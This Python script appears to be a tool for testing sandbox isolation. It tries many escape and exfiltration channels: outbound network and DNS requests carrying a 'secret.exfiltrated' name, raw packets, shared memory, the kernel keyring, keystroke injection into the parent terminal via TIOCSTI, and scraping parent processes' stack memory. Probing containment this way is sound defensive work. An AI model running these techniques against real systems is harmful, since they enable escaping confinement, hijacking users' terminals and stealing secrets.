"""Ways out that need more than a shell: tries.py KIND ARGUMENT..."""

import ctypes
import os
import socket
import struct
import sys
import time
import urllib.request

LIMIT = 4


def url(address):
    return urllib.request.urlopen(address, timeout=LIMIT).read()


def tcp(host, port):
    connection = socket.create_connection((host, int(port)), timeout=LIMIT)
    connection.sendall(b"GET /tcp HTTP/1.0\r\n\r\n")
    return connection.recv(1000)


def udp(host, port, data=b"x"):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    sender = socket.socket(family, socket.SOCK_DGRAM)
    sender.settimeout(2)
    sender.sendto(data, (host, int(port)))
    return sender.recv(1000)


def dns(server):
    name = b"".join(bytes([len(part)]) + part for part in (b"secret", b"exfiltrated", b"example", b""))
    return udp(server, 53, struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1))


def ping(host):
    try:
        sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    except OSError:
        sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    sender.settimeout(2)
    head = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
    total = sum(struct.unpack("!4H", head))
    sender.sendto(struct.pack("!BBHHH", 8, 0, ~(total + (total >> 16)) & 0xFFFF, 1, 1), (host, 0))
    return sender.recv(1000)


def raw(host):
    """A packet of our own making: no connection that anybody could refuse."""
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 29, 1, 0, 64, 17, 0, b"\0" * 4, socket.inet_aton(host))
    sender.sendto(head + struct.pack("!4H", 999, 53, 9, 0) + b"x", (host, 0))
    return b"sent"


def unix(path):
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(LIMIT)
    connection.connect(path)
    connection.sendall(b"GET /unix HTTP/1.0\r\n\r\n")
    return connection.recv(1000)


def abstract(name):
    return unix("\0" + name)


def shm(key):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    memory = libc.shmget(int(key), 0, 0)
    if memory < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    return ctypes.string_at(libc.shmat(memory, None, 0o10000), 60)


def keyring(name):
    """Keys of the session are no files, and no namespace but that of users holds them."""
    libc = ctypes.CDLL(None, use_errno=True)
    request, control = (249, 250) if os.uname().machine == "x86_64" else (218, 219)
    key = libc.syscall(request, b"user", name.encode(), None, 0)
    if key < 0:
        raise OSError(ctypes.get_errno(), "request_key")
    data = ctypes.create_string_buffer(200)
    length = libc.syscall(control, 11, key, data, 200, 0)
    return data.raw[: max(length, 0)]


def vsock():
    """In a virtual machine such a socket leads to whoever runs it; only its making is tried."""
    socket.socket(40, socket.SOCK_STREAM).close()
    return b"can-be-made"


def terminal(line):
    """Types into the terminal of whoever started this, as if it were a person."""
    import fcntl

    for path in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"):
        try:
            where = os.open(path, os.O_RDWR | os.O_NOCTTY)
            for letter in line + "\n":
                fcntl.ioctl(where, 0x5412, letter.encode())
            return b"typed into " + path.encode()
        except OSError as error:
            last = error
    raise last


def trace():
    """Reads the memory of the processes above: what they were given stands at the end of their stack."""
    found, parent = b"", os.getppid()
    for _ in range(9):
        try:
            with open(f"/proc/{parent}/maps", encoding="utf-8") as maps:
                stack = next(line for line in maps if "[stack]" in line).split()[0].split("-")
            with open(f"/proc/{parent}/mem", "rb") as memory:
                memory.seek(int(stack[0], 16))
                data = memory.read(int(stack[1], 16) - int(stack[0], 16))
            found += b"\n".join(part for part in data.split(b"\0") if b"@mark@" in part)
        except (OSError, StopIteration, ValueError):
            pass
        try:
            with open(f"/proc/{parent}/status", encoding="utf-8") as status:
                parent = int(next(line for line in status if line.startswith("PPid:")).split()[1])
        except (OSError, StopIteration):
            break
    return found or b"nothing"


def later(host, port):
    time.sleep(4)
    return tcp(host, port)


def main(kind, *words):
    try:
        answer = globals()[kind](*words)
        sys.stdout.write("heard " + answer.decode("utf-8", "replace") + "\n")
    except Exception as error:  # Whatever stands in the way is an answer.
        sys.stdout.write(f"refused: {error!r}\n")


if __name__ == "__main__":
    main(*sys.argv[1:])
